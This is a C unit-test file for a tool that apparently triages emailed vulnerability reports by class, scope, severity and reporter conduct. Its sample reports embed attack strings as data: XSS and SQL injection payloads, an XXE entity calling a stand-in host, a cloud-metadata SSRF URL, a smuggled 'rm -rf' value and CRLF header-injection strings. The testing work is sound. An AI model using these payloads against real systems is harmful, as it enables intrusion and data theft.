/*++
/* NAME
/*	test_classify 1
/* SUMMARY
/*	unit tests of classify/triage.c
/* SYNOPSIS
/*	tests/unit/test_classify
/* DESCRIPTION
/*	Each test builds a struct report in memory, as the parser would
/*	leave it, runs triage_classify() and checks what a user sees: the
/*	X-Security-Triage value, the triage JSON and the fields behind
/*	them (kind, classes, scope, completeness, conduct, flags,
/*	severity, acknowledgement).
/* DIAGNOSTICS
/*	TAP or cmocka output; exit status 0 when every test passed.
/*--*/

/* System library. */

#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>
#include <pthread.h>
#include <stdlib.h>
#include <string.h>
#include <dirent.h>
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

/* Application-specific. */

#include "util/util.h"
#include "parser/report.h"
#include "classify/triage.h"

/* ---------------------------------------------------------- fixtures */

static char *dup_or_null(const char *s)
{
    char   *d;

    if (s == NULL)
	return (NULL);
    d = strdup(s);
    assert_non_null(d);
    return (d);
}

 /*
  * A report as the parser leaves it: header fields, text, and the URL
  * list that extraction would have made.
  */
static void report_make(struct report *r, const char *from, const char *subject,
			        const char *text)
{
    memset(r, 0, sizeof(*r));
    sbuf_init(&r->text, SM_DEF_MAX_TEXT_BYTES);
    r->message_id = dup_or_null("<1@researcher.example>");
    r->from_addr = dup_or_null(from);
    r->subject = dup_or_null(subject);
    if (text != NULL)
	assert_int_equal(sbuf_puts(&r->text, text), 0);
}

static void report_add_url(struct report *r, const char *url)
{
    assert_int_equal(strlist_add(&r->urls, url), 0);
}

static void report_destroy(struct report *r)
{
    size_t  i;

    free(r->message_id);
    free(r->from_addr);
    free(r->from_name);
    free(r->subject);
    free(r->return_path);
    free(r->in_reply_to);
    free(r->auto_submitted);
    free(r->precedence);
    strlist_free(&r->references);
    strlist_free(&r->auth_results);
    sbuf_free(&r->text);
    for (i = 0; i < r->n_attachments; i++) {
	free(r->attachments[i].filename);
	free(r->attachments[i].content_type);
    }
    free(r->attachments);
    strlist_free(&r->urls);
    strlist_free(&r->cves);
    strlist_free(&r->cvss_vectors);
}

static void classify(const struct report *r, const char *sender,
		             const struct sm_config *cfg, struct triage *t)
{
    triage_init(t);
    assert_int_equal(triage_classify(NULL, r, sender, cfg, t), 0);
}

static void assert_header(const struct triage *t, const char *expected)
{
    struct sbuf sb;

    sbuf_init(&sb, 4096);
    assert_int_equal(triage_header(t, &sb), 0);
    assert_string_equal(sbuf_str(&sb), expected);
    sbuf_free(&sb);
}

static int has(const struct strlist *sl, const char *s)
{
    return (strlist_contains(sl, s));
}

static const char *first(const struct strlist *sl)
{
    return (sl->n > 0 ? sl->v[0] : "(empty)");
}

static const char complete_xss[] =
    "Hello security team,\n\n"
    "I found a stored cross-site scripting (XSS) vulnerability in the contact "
    "notes of https://app.callhub.io/contacts/123/notes.\n\n"
    "Steps to reproduce:\n"
    "1. Log in with my test account and open a contact.\n"
    "2. Add a note with the payload <img src=x onerror=alert(document.domain)>\n"
    "3. Any agent who opens the contact runs the script.\n\n"
    "Impact: an attacker can steal the session of any agent of the account "
    "and act on their behalf.\n\nRegards,\nAlice\n";

/* ------------------------------------------------------------- tests */

static void test_complete_xss_report(void **state)
{
    struct report r;
    struct triage t;
    int     i;

    (void) state;
    report_make(&r, "alice@researcher.example", "Stored XSS in contact notes", complete_xss);
    report_add_url(&r, "https://app.callhub.io/contacts/123/notes");
    classify(&r, "alice@researcher.example", NULL, &t);

    assert_int_equal(t.kind, TRIAGE_REPORT);
    assert_string_equal(first(&t.classes), "xss");
    assert_int_equal(t.scope, SCOPE_IN);
    for (i = 0; i < ITEM_COUNT; i++)
	if (!t.complete[i])
	    fail_msg("item %s missing", triage_item_names[i]);
    assert_int_equal(t.conduct.n, 0);
    assert_int_equal(t.flags.n, 0);
    assert_int_equal(t.severity, SEV_HIGH);	/* stored XSS */
    assert_true(t.acknowledge);
    assert_string_equal(t.sender, "alice@researcher.example");
    assert_null(t.ticket);
    assert_true(t.scope_reasons.n >= 1);
    assert_header(&t, "kind=report; class=xss; scope=in; severity=high; "
		  "missing=none; conduct=none");
    triage_free(&t);
    report_destroy(&r);
}

static void test_interface_header_example(void **state)
{
    struct report r;
    struct triage t;

    (void) state;

    /* Type, target and steps, but neither impact nor a proof of concept. */
    report_make(&r, "bob@researcher.example", "XSS on the login page",
		"There is a reflected XSS in the login form.\n"
		"Steps to reproduce:\n1. Open https://callhub.io/login\n"
		"2. Enter a name in the username field\n");
    report_add_url(&r, "https://callhub.io/login");
    classify(&r, "<bob@researcher.example>", NULL, &t);
    assert_header(&t, "kind=report; class=xss; scope=in; severity=medium; "
		  "missing=impact,poc; conduct=none");
    assert_string_equal(t.sender, "bob@researcher.example");
    triage_free(&t);
    report_destroy(&r);
}

static void test_nothing_found(void **state)
{
    struct report r;
    struct triage t;
    json_t *j;

    (void) state;
    report_make(&r, "carol@example.org", NULL, "Hi, can you call me back?\n");
    classify(&r, "carol@example.org", NULL, &t);
    assert_int_equal(t.classes.n, 0);
    assert_int_equal(t.scope, SCOPE_UNCLEAR);
    assert_int_equal(t.scope_reasons.n, 1);
    assert_int_equal(t.severity, SEV_UNSET);
    assert_header(&t, "kind=report; class=none; scope=unclear; severity=unknown; "
		  "missing=type,target,impact,steps,poc; conduct=none");

    j = triage_to_json(&r, &t, NULL);
    assert_non_null(j);
    assert_true(json_is_null(json_object_get(j, "file")));
    assert_true(json_is_null(json_object_get(j, "subject")));
    assert_true(json_is_null(json_object_get(j, "severity")));
    assert_true(json_is_null(json_object_get(j, "cvss")));
    assert_int_equal(json_array_size(json_object_get(j, "classes")), 0);
    json_decref(j);
    triage_free(&t);
    report_destroy(&r);
}

static void test_other_when_security_ish(void **state)
{
    struct report r;
    struct triage t;

    (void) state;
    /* A vague claim names no type: no class, the type is asked for. */
    report_make(&r, "dave@example.org", "Security issue",
		"I found a vulnerability in your product, reply for details.");
    classify(&r, "dave@example.org", NULL, &t);
    assert_int_equal(t.classes.n, 0);
    assert_false(t.complete[ITEM_TYPE]);
    assert_int_equal(t.scope, SCOPE_UNCLEAR);
    triage_free(&t);
    report_destroy(&r);

    /* A type outside the vocabulary: "other", and the type is named. */
    report_make(&r, "dave@example.org", "Race condition",
		"A race condition in https://app.callhub.io/credits lets me redeem "
		"one coupon twice.");
    report_add_url(&r, "https://app.callhub.io/credits");
    classify(&r, "dave@example.org", NULL, &t);
    assert_string_equal(first(&t.classes), "other");
    assert_true(t.complete[ITEM_TYPE]);
    assert_int_equal(t.scope, SCOPE_IN);
    triage_free(&t);
    report_destroy(&r);
}

static void test_automated_null_sender(void **state)
{
    struct report r;
    struct triage t;

    (void) state;
    report_make(&r, "someone@example.org", "XSS report", complete_xss);
    classify(&r, "", NULL, &t);
    assert_int_equal(t.kind, TRIAGE_AUTOMATED);
    assert_false(t.acknowledge);
    assert_string_equal(t.sender, "");
    assert_header(&t, "kind=automated");
    triage_free(&t);

    classify(&r, "<>", NULL, &t);
    assert_int_equal(t.kind, TRIAGE_AUTOMATED);
    assert_string_equal(t.sender, "");
    triage_free(&t);

    /* Unknown envelope (-t): Return-Path <> tells the same. */
    r.return_path = dup_or_null("<>");
    classify(&r, NULL, NULL, &t);
    assert_int_equal(t.kind, TRIAGE_AUTOMATED);
    triage_free(&t);
    report_destroy(&r);
}

static void test_automated_evidence(void **state)
{
    struct report r;
    struct triage t;

    (void) state;

    /* Auto-Submitted: anything but "no". */
    report_make(&r, "alice@researcher.example", "Re: your mail", "I am away.");
    r.auto_submitted = dup_or_null("auto-replied");
    classify(&r, "alice@researcher.example", NULL, &t);
    assert_int_equal(t.kind, TRIAGE_AUTOMATED);
    triage_free(&t);
    free(r.auto_submitted);
    r.auto_submitted = dup_or_null("No");
    classify(&r, "alice@researcher.example", NULL, &t);
    assert_int_equal(t.kind, TRIAGE_REPORT);
    assert_true(t.acknowledge);
    triage_free(&t);
    report_destroy(&r);

    /* Precedence: bulk, list headers, auto-reply headers, DSN. */
    report_make(&r, "news@vendor.example", "Newsletter", "News.");
    r.precedence = dup_or_null(" Bulk");
    classify(&r, "news@vendor.example", NULL, &t);
    assert_int_equal(t.kind, TRIAGE_AUTOMATED);
    triage_free(&t);
    free(r.precedence);
    r.precedence = NULL;
    r.has_list_headers = 1;
    classify(&r, "news@vendor.example", NULL, &t);
    assert_int_equal(t.kind, TRIAGE_AUTOMATED);
    triage_free(&t);
    r.has_list_headers = 0;
    r.has_autoreply_headers = 1;
    classify(&r, "news@vendor.example", NULL, &t);
    assert_int_equal(t.kind, TRIAGE_AUTOMATED);
    triage_free(&t);
    r.has_autoreply_headers = 0;
    r.flags = REPORT_F_DSN;
    classify(&r, "news@vendor.example", NULL, &t);
    assert_int_equal(t.kind, TRIAGE_AUTOMATED);
    assert_false(t.acknowledge);
    triage_free(&t);
    report_destroy(&r);
}

static void test_automated_addresses_and_subjects(void **state)
{
    static const char *const robots[] = {
	"MAILER-DAEMON@mx.example.org", "postmaster@example.org",
	"noreply@example.org", "no-reply@example.org",
	"owner-security-list@lists.example.org",
	"security-list-request@lists.example.org",
    };
    static const char *const subjects[] = {
	"Out of Office: XSS report", "Automatic reply: SQL injection",
	"Undeliverable: vulnerability", "Delivery Status Notification (Failure)",
    };
    struct report r;
    struct triage t;
    size_t  i;

    (void) state;
    for (i = 0; i < sizeof(robots) / sizeof(robots[0]); i++) {
	report_make(&r, "human@example.org", "Hello", "text");
	classify(&r, robots[i], NULL, &t);
	if (t.kind != TRIAGE_AUTOMATED)
	    fail_msg("%s not automated", robots[i]);
	triage_free(&t);
	report_destroy(&r);

	/* From: alone also tells, when the envelope is not known. */
	report_make(&r, robots[i], "Hello", "text");
	classify(&r, NULL, NULL, &t);
	assert_int_equal(t.kind, TRIAGE_AUTOMATED);
	triage_free(&t);
	report_destroy(&r);
    }
    for (i = 0; i < sizeof(subjects) / sizeof(subjects[0]); i++) {
	report_make(&r, "human@example.org", subjects[i], "text");
	classify(&r, "human@example.org", NULL, &t);
	if (t.kind != TRIAGE_AUTOMATED)
	    fail_msg("\"%s\" not automated", subjects[i]);
	triage_free(&t);
	report_destroy(&r);
    }

    /* A person whose address merely contains a robot word is a person. */
    report_make(&r, "noreplyfan@example.org", "XSS", complete_xss);
    classify(&r, "noreplyfan@example.org", NULL, &t);
    assert_int_equal(t.kind, TRIAGE_REPORT);
    triage_free(&t);
    report_destroy(&r);
}

static void test_followup_by_subject_tag(void **state)
{
    struct report r;
    struct triage t;
    json_t *j;

    (void) state;
    report_make(&r, "alice@researcher.example",
		"Re: [SEC-2026-0042] Stored XSS in contact notes",
		"Here is the video you asked for.");
    classify(&r, "alice@researcher.example", NULL, &t);
    assert_int_equal(t.kind, TRIAGE_FOLLOWUP);
    assert_string_equal(t.ticket, "SEC-2026-0042");
    assert_false(t.acknowledge);
    j = triage_to_json(&r, &t, "msg.eml");
    assert_string_equal(json_string_value(json_object_get(j, "kind")), "followup");
    assert_string_equal(json_string_value(json_object_get(j, "ticket")), "SEC-2026-0042");
    json_decref(j);
    triage_free(&t);

    /* A bounce that carries the tag stays automated but names the ticket. */
    classify(&r, "", NULL, &t);
    assert_int_equal(t.kind, TRIAGE_AUTOMATED);
    assert_string_equal(t.ticket, "SEC-2026-0042");
    assert_header(&t, "kind=automated");
    triage_free(&t);
    report_destroy(&r);
}

static void test_set_followup_and_ticket(void **state)
{
    struct report r;
    struct triage t;

    (void) state;
    report_make(&r, "alice@researcher.example", "More details", "Hello again.");
    classify(&r, "alice@researcher.example", NULL, &t);
    assert_int_equal(t.kind, TRIAGE_REPORT);

    /* IDs that are not ticket IDs never get in. */
    triage_set_followup(&t, "SEC-2026-42");
    triage_set_followup(&t, "SEC-2026-0042; rm -rf");
    triage_set_ticket(&t, NULL);
    assert_int_equal(t.kind, TRIAGE_REPORT);
    assert_null(t.ticket);

    triage_set_ticket(&t, "SEC-2026-0007");
    assert_int_equal(t.kind, TRIAGE_REPORT);
    assert_string_equal(t.ticket, "SEC-2026-0007");
    triage_set_followup(&t, "SEC-2025-12345");
    assert_int_equal(t.kind, TRIAGE_FOLLOWUP);
    assert_string_equal(t.ticket, "SEC-2025-12345");
    assert_false(t.acknowledge);
    triage_free(&t);
    report_destroy(&r);
}

static void test_ticket_tags(void **state)
{
    char    buf[32];

    (void) state;
    assert_int_equal(triage_find_ticket_tag("[SEC-2026-0042] XSS", buf, sizeof(buf)), 1);
    assert_string_equal(buf, "SEC-2026-0042");
    assert_int_equal(triage_find_ticket_tag("Re: Fwd: about [SEC-2026-123456789]", buf,
					    sizeof(buf)), 1);
    assert_string_equal(buf, "SEC-2026-123456789");
    assert_int_equal(triage_find_ticket_tag("RE: [sec-2026-0042]", buf, sizeof(buf)), 1);
    assert_string_equal(buf, "SEC-2026-0042");
    assert_int_equal(triage_find_ticket_tag("Re: SEC-2026-0042 more", buf, sizeof(buf)), 1);
    assert_string_equal(buf, "SEC-2026-0042");
    assert_int_equal(triage_find_ticket_tag("[x] [SEC-2026-0042]", buf, sizeof(buf)), 1);

    assert_int_equal(triage_find_ticket_tag("[SEC-2026-042]", buf, sizeof(buf)), 0);
    assert_int_equal(triage_find_ticket_tag("[SEC-2026-1234567890]", buf, sizeof(buf)), 0);
    assert_int_equal(triage_find_ticket_tag("[SEC-26-0042]", buf, sizeof(buf)), 0);
    assert_int_equal(triage_find_ticket_tag("[SEC-2026-0042", buf, sizeof(buf)), 0);
    assert_int_equal(triage_find_ticket_tag("about SEC-2026-0042", buf, sizeof(buf)), 0);
    assert_int_equal(triage_find_ticket_tag("Re: SEC-2026-0042x", buf, sizeof(buf)), 0);
    assert_int_equal(triage_find_ticket_tag("", buf, sizeof(buf)), 0);
    assert_int_equal(triage_find_ticket_tag(NULL, buf, sizeof(buf)), 0);
    assert_int_equal(triage_find_ticket_tag("[SEC-2026-0042]", buf, 8), 0);

    assert_true(triage_ticket_id_valid("SEC-2026-0042"));
    assert_true(triage_ticket_id_valid("SEC-2026-123456789"));
    assert_false(triage_ticket_id_valid("SEC-2026-1234567890"));
    assert_false(triage_ticket_id_valid("SEC-2026-042"));
    assert_false(triage_ticket_id_valid("sec-2026-0042"));
    assert_false(triage_ticket_id_valid("SEC-2026-0042 "));
    assert_false(triage_ticket_id_valid("SEC-202a-0042"));
    assert_false(triage_ticket_id_valid(""));
    assert_false(triage_ticket_id_valid(NULL));
}

static void test_policy_exclusions(void **state)
{
    static const struct {
	const char *subject;
	const char *text;
	const char *cls;
	const char *reason_word;
    }       cases[] = {
	{"Missing X-Frame-Options header",
	    "Your site https://callhub.io/ does not send X-Frame-Options, so it is "
	    "vulnerable to clickjacking. The Content-Security-Policy header is "
	    "missing too.", "missing_headers", "HTTP headers"},
	{"Stack trace exposed",
	    "Requesting https://callhub.io/api/x?id=' gives a 500 Internal Server "
	    "Error with a full stack trace.", "stack_trace", "stack traces"},
	{"Content spoofing in the campaign page",
	    "Content spoofing: as an admin user I can put arbitrary text on "
	    "https://callhub.io/campaign/1 that every agent sees.",
	    "content_spoofing", "content spoofing"},
	/* SQL injection claimed, a 500 shown: the 500 is what the report has. */
	{"SQLi in list filter",
	    "Putting a quote in https://callhub.io/list?sort=name' returns error "
	    "500, so this is SQL injection.", "stack_trace", "stack traces"},
	/* The account owner as the actor: an administrative user. */
	{"Fake notice in invitations",
	    "A malicious account owner can put a fake warning with a phone number "
	    "in the team name, and it is injected into every invitation email.",
	    "content_spoofing", "content spoofing"},
    };
    struct report r;
    struct triage t;
    size_t  i, k;
    int     found;

    (void) state;
    for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
	report_make(&r, "eve@example.org", cases[i].subject, cases[i].text);
	report_add_url(&r, "https://callhub.io/");
	classify(&r, "eve@example.org", NULL, &t);
	assert_string_equal(first(&t.classes), cases[i].cls);
	assert_int_equal(t.scope, SCOPE_OUT);
	for (found = 0, k = 0; k < t.scope_reasons.n; k++)
	    if (strstr(t.scope_reasons.v[k], "policy exclusion")
		&& strstr(t.scope_reasons.v[k], cases[i].reason_word))
		found = 1;
	if (!found)
	    fail_msg("%s: no policy reason", cases[i].cls);
	triage_free(&t);
	report_destroy(&r);
    }
}

static void test_in_scope_domains(void **state)
{
    struct sm_config cfg;
    struct report r;
    struct triage t;

    (void) state;
    sm_config_init(&cfg);
    assert_int_equal(strlist_add(&cfg.in_scope_domains, "*.callhub.io"), 0);

    /* The only asset named is somebody else's. */
    report_make(&r, "eve@example.org", "SQL injection",
		"SQL injection in https://shop.othercorp.com/item?id=1' OR 1=1--");
    report_add_url(&r, "https://shop.othercorp.com/item?id=1");
    classify(&r, "eve@example.org", &cfg, &t);
    assert_string_equal(first(&t.classes), "sqli");
    assert_int_equal(t.scope, SCOPE_OUT);
    assert_true(has(&t.scope_reasons, "shop.othercorp.com is not in InScopeDomains"));
    triage_free(&t);

    /* Ours, plus a reference link that does not count. */
    report_add_url(&r, "https://api.callhub.io/v1/item?id=1");
    report_add_url(&r, "https://owasp.org/www-community/attacks/SQL_Injection");
    classify(&r, "eve@example.org", &cfg, &t);
    assert_int_equal(t.scope, SCOPE_IN);
    assert_int_equal(t.severity, SEV_CRITICAL);
    triage_free(&t);
    report_destroy(&r);

    /* No URL but the in-scope host named in the text: a target. */
    report_make(&r, "eve@example.org", "CSRF", "CSRF on app.callhub.io settings form.");
    classify(&r, "eve@example.org", &cfg, &t);
    assert_true(t.complete[ITEM_TARGET]);
    assert_int_equal(t.scope, SCOPE_IN);
    triage_free(&t);
    report_destroy(&r);

    /*
     * The only URL is where the payload calls home; the asset is a host
     * of ours named without a scheme.
     */
    report_make(&r, "eve@example.org", "Blind XXE", "The contact importer of "
		"app.callhub.io resolves external entities: <!DOCTYPE r [<!ENTITY % p "
		"SYSTEM \"http://oob.tester.example/p.dtd\"> %p;]> and my server got the hit.");
    report_add_url(&r, "http://oob.tester.example/p.dtd");
    classify(&r, "eve@example.org", &cfg, &t);
    assert_string_equal(first(&t.classes), "xxe");
    assert_int_equal(t.scope, SCOPE_IN);
    triage_free(&t);
    report_destroy(&r);

    /* A link given as a value (href=, ?next=) is the attacker's, not the asset. */
    report_make(&r, "eve@example.org", "HTML injection in team name", "HTML injection: "
		"a team name of <a href=\"https://phish.tester.example/login\">verify</a> "
		"is rendered as a link to every member.");
    report_add_url(&r, "https://phish.tester.example/login");
    classify(&r, "eve@example.org", &cfg, &t);
    assert_int_equal(t.scope, SCOPE_IN);
    assert_false(has(&t.scope_reasons, "phish.tester.example is not in InScopeDomains"));
    triage_free(&t);
    report_destroy(&r);

    /* Our address, or our name inside another host, is not an asset. */
    report_make(&r, "eve@example.org", "XSS", "Dear security@callhub.io, reflected XSS "
		"at https://callhub.io.login-portal.example/q?s=<script>alert(1)</script>");
    report_add_url(&r, "https://callhub.io.login-portal.example/q?s=");
    classify(&r, "eve@example.org", &cfg, &t);
    assert_int_equal(t.scope, SCOPE_OUT);
    triage_free(&t);
    report_destroy(&r);

    /* The product and its version name the asset; the vendor API is a means. */
    report_make(&r, "eve@example.org", "Live API secret in CallHub Agent for iOS 5.2.1",
		"Running strings on the IPA shows a production key; it works: "
		"curl -u key: https://api.smsvendor.example/v1/messages");
    report_add_url(&r, "https://api.smsvendor.example/v1/messages");
    assert_int_equal(strlist_add(&r.versions, "iOS 5.2.1"), 0);
    classify(&r, "eve@example.org", &cfg, &t);
    assert_int_not_equal(t.scope, SCOPE_OUT);
    strlist_free(&r.versions);
    triage_free(&t);
    report_destroy(&r);

    /* Only a public IP address: whose it is needs a human. */
    report_make(&r, "eve@example.org", "Host header injection", "Sending Host: "
		"other.example to http://198.51.100.7/ makes the reply redirect users "
		"to that host.");
    report_add_url(&r, "http://198.51.100.7/");
    classify(&r, "eve@example.org", &cfg, &t);
    assert_int_equal(t.scope, SCOPE_UNCLEAR);
    assert_non_null(strstr(first(&t.scope_reasons), "IP address"));
    triage_free(&t);
    report_destroy(&r);
    sm_config_free(&cfg);
}

static void test_third_party(void **state)
{
    struct report r;
    struct triage t;

    (void) state;
    report_make(&r, "eve@example.org", "XSS in checkout",
		"Reflected XSS at https://checkout.stripe.com/pay?x=<script>alert(1)</script>");
    report_add_url(&r, "https://checkout.stripe.com/pay?x=");
    classify(&r, "eve@example.org", NULL, &t);
    assert_string_equal(first(&t.classes), "xss");
    assert_int_equal(t.scope, SCOPE_OUT);
    assert_true(has(&t.scope_reasons, "checkout.stripe.com is a third-party service, not ours"));
    triage_free(&t);
    report_destroy(&r);

    /* A vendor's widget embedded in our pages, by wording alone. */
    report_make(&r, "eve@example.org", "Visitor e-mail leak",
		"The chat widget on your pricing page is Zendesk: the zendesk widget "
		"leaks each visitor's e-mail address into the page.");
    classify(&r, "eve@example.org", NULL, &t);
    assert_int_equal(t.scope, SCOPE_OUT);
    assert_non_null(strstr(first(&t.scope_reasons), "third-party"));
    triage_free(&t);
    report_destroy(&r);

    /* The vendor named in passing, the flaw in our page: not out. */
    report_make(&r, "eve@example.org", "XSS in notes",
		"Besides the Intercom widget, the notes page keeps "
		"<img src=x onerror=alert(1)> at https://app.callhub.io/notes/3");
    report_add_url(&r, "https://app.callhub.io/notes/3");
    classify(&r, "eve@example.org", NULL, &t);
    assert_int_equal(t.scope, SCOPE_IN);
    triage_free(&t);
    report_destroy(&r);
}

static void test_negation(void **state)
{
    struct report r;
    struct triage t;

    (void) state;
    report_make(&r, "eve@example.org", "Injection",
		"This is not an XSS. It is a SQL injection: id=1' OR 1=1-- returns every row.");
    classify(&r, "eve@example.org", NULL, &t);
    assert_string_equal(first(&t.classes), "sqli");
    assert_false(has(&t.classes, "xss"));
    triage_free(&t);
    report_destroy(&r);

    /* "no CSRF token" is a CSRF report. */
    report_make(&r, "eve@example.org", "Email change",
		"The email change form has no CSRF token, so a third-party page can "
		"submit it.");
    classify(&r, "eve@example.org", NULL, &t);
    assert_string_equal(first(&t.classes), "csrf");
    triage_free(&t);
    report_destroy(&r);
}

static void test_classes_rank_and_cwe(void **state)
{
    struct report r;
    struct triage t;

    (void) state;
    report_make(&r, "eve@example.org", "CWE-918 in the import feature",
		"The URL import fetches http://169.254.169.254/latest/meta-data/ and "
		"returns it; it also reflects the URL without escaping (XSS).");
    classify(&r, "eve@example.org", NULL, &t);
    assert_string_equal(first(&t.classes), "ssrf");
    assert_true(has(&t.classes, "xss"));
    assert_int_equal(t.severity, SEV_HIGH);
    triage_free(&t);
    report_destroy(&r);

    report_make(&r, "eve@example.org", "Remote code execution",
		"The name field is rendered by the template engine: {{7*7}} gives 49. "
		"Server-side template injection (SSTI), CWE-1336.");
    classify(&r, "eve@example.org", NULL, &t);
    assert_string_equal(first(&t.classes), "rce");
    assert_int_equal(t.severity, SEV_CRITICAL);
    assert_true(t.complete[ITEM_POC]);
    triage_free(&t);
    report_destroy(&r);

    /* "force" does not contain the word RCE; "source" neither. */
    report_make(&r, "eve@example.org", "Question",
		"Where is the source of the force field?");
    classify(&r, "eve@example.org", NULL, &t);
    assert_int_equal(t.classes.n, 0);
    triage_free(&t);
    report_destroy(&r);
}

static void test_conduct(void **state)
{
    struct report r;
    struct triage t;
    static const char *const expected[] = {
	"dos", "brute_force", "others_data", "data_destruction",
	"social_engineering", "non_test_account", "public_disclosure",
    };
    size_t  i;

    (void) state;
    report_make(&r, "mallory@example.org", "IDOR",
		"IDOR in /api/users/{id}. I sent 100000 requests to enumerate ids and "
		"tried 10,000 passwords on the login. I downloaded other users' data "
		"and I kept a copy. Then I deleted the test records, dropped the table "
		"and called your support pretending to be the account owner. I tested on "
		"a real customer account. Pay me or I will publish this on my blog.");
    classify(&r, "mallory@example.org", NULL, &t);
    for (i = 0; i < sizeof(expected) / sizeof(expected[0]); i++)
	if (!has(&t.conduct, expected[i]))
	    fail_msg("conduct %s not found", expected[i]);
    assert_false(has(&t.conduct, "spam"));
    assert_false(has(&t.conduct, "physical"));
    assert_true(has(&t.flags, "bounty_demand"));
    triage_free(&t);
    report_destroy(&r);

    /* Saying what one did not do is not conduct. */
    report_make(&r, "alice@researcher.example", "IDOR",
		"IDOR in /api/users/{id}. I did not brute force anything and I have not "
		"accessed other users' data; I never visited your office.");
    classify(&r, "alice@researcher.example", NULL, &t);
    assert_int_equal(t.conduct.n, 0);
    assert_int_equal(t.flags.n, 0);
    triage_free(&t);
    report_destroy(&r);

    /* In vocabulary order, in the header. */
    report_make(&r, "mallory@example.org", "DoS",
		"I flooded your API and then posted on twitter about it.");
    classify(&r, "mallory@example.org", NULL, &t);
    assert_string_equal(first(&t.classes), "dos");
    assert_int_equal(t.conduct.n, 2);
    assert_string_equal(t.conduct.v[0], "dos");
    assert_string_equal(t.conduct.v[1], "public_disclosure");
    triage_free(&t);
    report_destroy(&r);
}

static void test_flags(void **state)
{
    struct report r;
    struct triage t;

    (void) state;
    report_make(&r, "eve@example.org", "XSS",
		"Reflected XSS on https://callhub.io/search. How much will you pay for it? "
		"My PayPal is below.");
    report_add_url(&r, "https://callhub.io/search");
    r.flags = REPORT_F_ENCRYPTED | REPORT_F_MALFORMED | REPORT_F_OVERSIZE;
    r.spoofed_headers = 2;
    classify(&r, "eve@example.org", NULL, &t);
    assert_header(&t, "kind=report; class=xss; scope=in; severity=medium; "
		  "missing=impact,steps,poc; conduct=none; "
		  "flags=bounty_demand,encrypted,malformed_mime,spoofed_headers,oversize");

    /* A suspected duplicate, set by the caller. */
    t.duplicate_of = strdup("SEC-2026-0001");
    assert_header(&t, "kind=report; class=xss; scope=in; severity=medium; "
		  "missing=impact,steps,poc; conduct=none; "
		  "flags=bounty_demand,encrypted,malformed_mime,spoofed_headers,oversize; "
		  "duplicate-of=SEC-2026-0001");
    free(t.duplicate_of);

    /* Nothing but vocabulary words and ticket IDs reach the header. */
    t.duplicate_of = strdup("SEC-1\r\nBcc: x");
    assert_int_equal(strlist_add(&t.flags, "Evil\r\nX: y"), 0);
    assert_header(&t, "kind=report; class=xss; scope=in; severity=medium; "
		  "missing=impact,steps,poc; conduct=none; "
		  "flags=bounty_demand,encrypted,malformed_mime,spoofed_headers,oversize");
    triage_free(&t);
    report_destroy(&r);
}

static void test_cvss_severity(void **state)
{
    struct report r;
    struct triage t;
    json_t *j, *cvss;
    char   *text;

    (void) state;
    report_make(&r, "alice@researcher.example", "XSS",
		"Reflected XSS, CVSS:3.1/AV:N/AC:L/PR:N/UI:R/S:C/C:L/I:L/A:N");
    assert_int_equal(strlist_add(&r.cvss_vectors, "CVSS:3.1/AV:N/AC:L/PR:N/UI:R/S:C/C:L/I:L/A:N"), 0);
    assert_int_equal(strlist_add(&r.cvss_vectors, "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:Q"), 0);
    assert_int_equal(strlist_add(&r.cvss_vectors, "CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:N/VC:H/VI:H/VA:H/SC:N/SI:N/SA:N"), 0);
    classify(&r, "alice@researcher.example", NULL, &t);
    assert_true(t.has_cvss);
    assert_string_equal(t.cvss.version, "4.0");
    assert_int_equal(t.severity, SEV_CRITICAL);

    j = triage_to_json(&r, &t, "x.eml");
    cvss = json_object_get(j, "cvss");
    assert_true(json_is_object(cvss));
    assert_string_equal(json_string_value(json_object_get(cvss, "version")), "4.0");
    assert_string_equal(json_string_value(json_object_get(cvss, "severity")), "critical");
    assert_string_equal(json_string_value(json_object_get(j, "severity")), "critical");
    text = json_dumps(cvss, TRIAGE_JSON_DUMP_FLAGS);
    assert_non_null(strstr(text, "\"score\":9.3"));
    free(text);
    json_decref(j);
    triage_free(&t);
    report_destroy(&r);
}

static void test_json_shape(void **state)
{
    static const char *const keys[] = {
	"file", "message_id", "from", "subject", "kind", "ticket", "classes",
	"scope", "scope_reasons", "completeness", "missing", "conduct", "flags",
	"severity", "cvss", "urls", "cves", "attachments", "acknowledge",
    };
    struct report r;
    struct triage t;
    json_t *j, *att, *comp;
    void   *it;
    size_t  i;

    (void) state;
    report_make(&r, "alice@researcher.example", "Stored XSS", complete_xss);
    report_add_url(&r, "https://app.callhub.io/contacts/123/notes");
    assert_int_equal(strlist_add(&r.cves, "CVE-2026-12345"), 0);
    r.attachments = calloc(1, sizeof(*r.attachments));
    r.n_attachments = 1;
    r.attachments[0].filename = strdup("poc.html");
    r.attachments[0].content_type = strdup("text/html");
    r.attachments[0].size = 1234;
    memset(r.attachments[0].sha256, 'a', 64);
    classify(&r, "alice@researcher.example", NULL, &t);
    j = triage_to_json(&r, &t, "report.eml");
    assert_non_null(j);

    /* Every INTERFACE.md field, in the documented order. */
    for (i = 0, it = json_object_iter(j); i < sizeof(keys) / sizeof(keys[0]);
	 i++, it = json_object_iter_next(j, it)) {
	assert_non_null(it);
	assert_string_equal(json_object_iter_key(it), keys[i]);
    }
    assert_string_equal(json_string_value(json_object_get(j, "file")), "report.eml");
    assert_string_equal(json_string_value(json_object_get(j, "from")), "alice@researcher.example");
    assert_string_equal(json_string_value(json_object_get(j, "kind")), "report");
    assert_true(json_is_null(json_object_get(j, "ticket")));
    assert_string_equal(json_string_value(json_object_get(j, "scope")), "in");
    comp = json_object_get(j, "completeness");
    for (i = 0; i < ITEM_COUNT; i++)
	assert_true(json_is_true(json_object_get(comp, triage_item_names[i])));
    assert_int_equal(json_array_size(json_object_get(j, "missing")), 0);
    assert_string_equal(json_string_value(json_array_get(json_object_get(j, "cves"), 0)),
			"CVE-2026-12345");
    att = json_array_get(json_object_get(j, "attachments"), 0);
    assert_string_equal(json_string_value(json_object_get(att, "filename")), "poc.html");
    assert_int_equal(json_integer_value(json_object_get(att, "size")), 1234);
    assert_int_equal(strlen(json_string_value(json_object_get(att, "sha256"))), 64);
    assert_true(json_is_true(json_object_get(j, "acknowledge")));
    assert_true(json_is_null(json_object_get(j, "duplicate_of")));
    json_decref(j);
    triage_free(&t);
